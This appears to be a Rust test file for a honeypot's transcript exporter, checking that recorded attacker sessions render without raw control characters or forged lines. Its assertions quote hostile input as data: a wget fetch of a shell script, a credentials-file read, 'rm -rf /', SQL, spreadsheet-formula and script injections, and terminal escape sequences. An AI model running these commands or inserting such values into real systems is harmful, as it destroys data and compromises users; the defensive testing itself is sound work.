//! The plain-text transcript: header, event lines, and no raw terminal control characters.

use miragepot_export::{SessionExport, transcript};

use crate::fixtures::*;

#[test]
fn transcript_is_readable_and_cannot_drive_a_terminal() {
    let tags = tags();
    for (c, events) in both() {
        let export = SessionExport::new(c.session, &events, &tags);
        let t = transcript::render(&export);
        for ch in t.chars() {
            let bad = (ch.is_control() && ch != '\n' && ch != '\t')
                || matches!(ch, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
            assert!(!bad, "raw control {:?} in transcript", ch);
        }
        assert!(t.contains(&format!("Session:        {}", c.session)));
        assert!(t.contains("Sensor:         sensor-1"));
        assert!(t.contains("Tags:           miner, "));
    }

    let (c, events) = sample_session();
    let t = transcript::render(&SessionExport::new(c.session, &events, &[]));
    assert!(t.contains("Source:         203.0.113.9:51514"));
    assert!(t.contains("Destination:    127.0.0.1:2222 (ssh)"));
    assert!(t.contains("Duration:       0.005 s"));
    assert!(t.contains("Client version: SSH-2.0-OpenSSH_9.2p1 Debian-2"));
    assert!(t.contains("HASSH:          ec7378c1a92f5a8dde7e8b7a1ddf33d1"));
    assert!(t.contains(
        "Login attempts: 1 (succeeded as root / hunter2\\x00évil'; DROP TABLE events; --)"
    ));
    assert!(t.contains("Risk:           40 (medium)"));
    assert!(t.contains("Techniques:     T1105 Ingress Tool Transfer"));
    assert!(t.contains("$ uname -a; cat /proc/cpuinfo | grep name\n"));
    assert!(t.contains("$ uname -a\nLinux srv 5.10.0-21-amd64 #1 SMP x86_64 GNU/Linux\n"));
    assert!(t.contains("download: wget http://198.51.100.7/bins.sh -> saved /tmp/bins.sh"));
    assert!(t.contains("upload: /tmp/b via scp"));
    assert!(t.contains("HONEYTOKEN TOUCHED: aws_key read in /root/.aws/credentials"));
    assert!(t.contains("tarpit delay: 1500 ms"));
    assert!(t.contains("technique: T1105 Ingress Tool Transfer"));
    assert!(t.contains("\\u{202e}"));

    let (c, events) = hostile_session();
    let t = transcript::render(&SessionExport::new(c.session, &events, &[]));
    // A newline in a username cannot forge a transcript line.
    assert!(!t.contains("\n12:00:00.000 $ rm -rf /"));
    assert!(t.contains("root\\x0a12:00:00.000 $ rm -rf / # fake line / =cmd|' /C calc'!A0"));
    assert!(t.contains("\\x1b[2J\\x1b]0;pwned\\x07\\u{9b}31m"));
    assert!(t.contains("line2\\x0dover\\u{85}\\u{202e}end\n[output truncated]\n"));
    assert!(t.contains("ünïcödé 日本 <script>alert(1)</script>"));
    assert!(t.contains("Source:         [::ffff:198.51.100.23]:51514"));
}
